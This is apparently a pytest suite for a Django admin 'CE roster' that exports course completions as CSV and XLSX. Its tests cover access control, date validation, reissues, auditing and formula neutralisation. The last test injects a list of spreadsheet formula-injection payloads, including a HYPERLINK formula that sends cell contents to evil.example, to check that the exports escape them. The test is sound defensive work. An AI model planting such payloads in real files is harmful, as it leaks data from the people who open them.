"""The CE roster (Wagtail admin → CE roster): completions in a date range for the sites one
administers, shown and downloaded as CSV and XLSX; scoped, validated, formula-safe, audited."""
import csv
import io
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from certificates import services
from certificates.models import Certificate
from courses.display import FORMULA_PREFIXES
from programs.models import AuditEvent, LegalName, ProgramSettings
from programs.roles import Role, role_grant
from readiness.models import CredentialFramework, HeldCredential
from tests import factories
from tests.certificates.conftest import complete_course
from tests.factories import sites as factories_sites

pytestmark = pytest.mark.django_db

URL = reverse("certificates_admin:roster")
HEADER = ["Name", "Credential number", "Course", "Hours", "Completion date", "Provider number", "Certificate number",
          "Program"]


@pytest.fixture
def world(db, domain, django_capture_on_commit_callbacks):
    """Two sites, each with a completed course; a site admin of site A."""
    site_a = factories.default_site()
    program = ProgramSettings.for_site(site_a)
    program.display_name, program.provider_number = "Harbor Program", "OASAS-PROV-1"
    program.save()
    site_b = factories_sites.second_site()
    course_a = factories.make_course(domain=domain, title="Recovery Coach Training")
    course_b = factories_sites.make_course_in(site_b, domain=domain, title="Course of B")
    ana = factories.make_user(first_name="Ana", last_name="Gómez")
    LegalName.objects.create(user=ana, name="Ana María Gómez Ruiz")
    ben = factories.make_user(first_name="Ben", last_name="Other")
    framework = CredentialFramework.objects.create(slug="ny-crpa", name="NY CRPA", training_minutes=60)
    HeldCredential.objects.create(user=ana, framework=framework, number="CRPA-1042", issued_on=date(2024, 1, 1),
                                  expires_on=date(2027, 1, 1))
    HeldCredential.objects.create(user=ana, framework=CredentialFramework.objects.create(
        slug="icrc", name="IC&RC PR", training_minutes=60), number="PR-9", issued_on=date(2024, 1, 1),
        expires_on=date(2028, 1, 1))
    with django_capture_on_commit_callbacks(execute=True):
        complete_course(ana, course_a)
        complete_course(ben, course_b)
    admin = factories.make_user(email="admin-a@example.org", first_name="Ada", last_name="Admin")
    role_grant(user=admin, site=site_a, role=Role.SITE_ADMIN)
    return {"site_a": site_a, "site_b": site_b, "ana": ana, "ben": ben, "admin": admin,
            "cert_a": Certificate.objects.get(enrollment__user=ana), "cert_b": Certificate.objects.get(enrollment__user=ben)}


def _range(**extra):
    today = timezone.localdate()
    return {"start": (today - timedelta(days=7)).isoformat(), "end": today.isoformat(), **extra}


def _csv(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_only_certificate_managers_open_the_roster(client, world):
    client.force_login(world["ana"])
    assert client.get(URL).status_code in (302, 403)
    client.force_login(world["admin"])
    body = client.get(URL).content.decode()
    assert "Completed from" in body and "Download CSV" in body and "Download Excel (XLSX)" in body


def test_the_csv_lists_the_completions_of_ones_own_sites(client, world):
    client.force_login(world["admin"])
    response = client.get(URL, _range(format="csv"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="ce-roster-')
    rows = _csv(response)
    cert = world["cert_a"]
    assert rows == [HEADER, [
        "Ana María Gómez Ruiz", "CRPA-1042 (NY CRPA); PR-9 (IC&RC PR)", "Recovery Coach Training", "0.8",
        timezone.localdate().isoformat(), "OASAS-PROV-1", cert.number, "Harbor Program",
    ]]
    assert world["cert_b"].number not in response.content.decode()
    event = AuditEvent.objects.get(action="export.roster")
    assert event.actor == world["admin"] and event.details["rows"] == 1 and event.details["format"] == "csv"


def test_the_xlsx_holds_the_same_rows_with_numbers_and_dates(client, world):
    client.force_login(world["admin"])
    response = client.get(URL, _range(format="xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows, sheet = _xlsx(response)
    assert sheet.title == "CE roster"
    assert rows[0] == HEADER
    name, credentials, course, hours, completed, provider, number, program = rows[1]
    assert (name, credentials, course, provider, number, program) == (
        "Ana María Gómez Ruiz", "CRPA-1042 (NY CRPA); PR-9 (IC&RC PR)", "Recovery Coach Training", "OASAS-PROV-1",
        world["cert_a"].number, "Harbor Program",
    )
    assert float(hours) == 0.8 and completed.date() == timezone.localdate()
    assert len(rows) == 2


def test_the_page_shows_the_rows_and_a_platform_admin_sees_every_site(client, world):
    client.force_login(world["admin"])
    body = client.get(URL, _range()).content.decode()
    assert "1 completion" in body and world["cert_a"].number in body and world["cert_b"].number not in body
    root = factories.make_user(email="root@example.org", is_superuser=True, is_staff=True)
    client.force_login(root)
    rows = _csv(client.get(URL, _range(format="csv")))
    assert {row[6] for row in rows[1:]} == {world["cert_a"].number, world["cert_b"].number}
    only_b = _csv(client.get(URL, _range(format="csv", site=str(world["site_b"].pk))))
    assert [row[6] for row in only_b[1:]] == [world["cert_b"].number]


def test_the_range_the_status_and_reissues_decide_what_counts(client, world, django_capture_on_commit_callbacks):
    client.force_login(world["admin"])
    cert = world["cert_a"]
    Certificate.objects.filter(pk=cert.pk).update(completed_on=date(2025, 3, 31))
    assert len(_csv(client.get(URL, {"start": "2025-04-01", "end": "2025-12-31", "format": "csv"}))) == 1
    assert len(_csv(client.get(URL, {"start": "2025-03-31", "end": "2025-03-31", "format": "csv"}))) == 2
    # A reissued certificate counts once: its current version (superseded and revoked ones never).
    Certificate.objects.filter(pk=cert.pk).update(completed_on=timezone.localdate())
    with django_capture_on_commit_callbacks(execute=True):
        new = services.certificate_reissue(certificate=cert, actor=world["admin"], name="Ana M. Gómez Ruiz")
    rows = _csv(client.get(URL, _range(format="csv")))
    assert [(row[0], row[6]) for row in rows[1:]] == [("Ana M. Gómez Ruiz", new.number)]
    services.certificate_revoke(certificate=new, actor=world["admin"], reason="Issued in error")
    assert len(_csv(client.get(URL, _range(format="csv")))) == 1


@pytest.mark.parametrize("params,message", [
    ({"start": "2027-02-30", "end": "2027-03-01"}, "Enter a valid date."),
    ({"start": "not a date", "end": "2027-03-01"}, "Enter a valid date."),
    ({"start": "0001-01-01", "end": "9999-12-31"}, "Enter a date between 1900 and 2100."),
    ({"start": "2026-01-01", "end": "10000-01-01"}, "Enter a valid date."),
    ({"start": "2026-05-01", "end": "2026-04-30"}, "The end date comes before the start date."),
    ({"start": "", "end": ""}, "This field is required."),
    ({"start": "2026-01-01", "end": "2026-12-31", "site": "999999999999999999999"}, "Select a valid choice."),
    ({"start": "2026-01-01", "end": "2026-12-31", "format": "pdf"}, "Select a valid choice."),
])
def test_bad_input_is_a_form_error_and_never_a_file(client, world, params, message):
    client.force_login(world["admin"])
    for extra in ({}, {"format": "csv"}):
        response = client.get(URL, {**extra, **params})
        assert response.status_code == 400, (params, response.status_code)
        assert response["Content-Type"].startswith("text/html") and message in response.content.decode()
    assert not AuditEvent.objects.filter(action="export.roster").exists()


def test_another_sites_id_is_not_a_choice(client, world):
    client.force_login(world["admin"])
    response = client.get(URL, _range(format="csv", site=str(world["site_b"].pk)))
    assert response.status_code == 400 and world["cert_b"].number not in response.content.decode()


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(1,1)", "\t=1+1"]


def test_roster_files_neutralise_formulas(client, world):
    cert = world["cert_a"]
    Certificate.objects.filter(pk=cert.pk).update(
        name_on_certificate=HOSTILE[0], course_title=HOSTILE[1], provider_number=HOSTILE[2], site_name=HOSTILE[3]
    )
    HeldCredential.objects.filter(user=world["ana"]).delete()
    HeldCredential.objects.create(user=world["ana"], framework=CredentialFramework.objects.get(slug="ny-crpa"),
                                  number=HOSTILE[4], issued_on=date(2024, 1, 1), expires_on=date(2027, 1, 1))
    client.force_login(world["admin"])
    rows = _csv(client.get(URL, _range(format="csv")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert rows[1][0] == "'" + HOSTILE[0] and rows[1][2] == "'" + HOSTILE[1] and rows[1][5] == "'" + HOSTILE[2]
    assert rows[1][7] == "'" + HOSTILE[3] and rows[1][1].startswith("'\t=1+1")

    response = client.get(URL, _range(format="xlsx"))
    workbook_rows, sheet = _xlsx(response)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    texts = [value for row in workbook_rows for value in row if isinstance(value, str)]
    assert not [value for value in texts if value.startswith(FORMULA_PREFIXES)]
    assert workbook_rows[1][0] == "'" + HOSTILE[0]
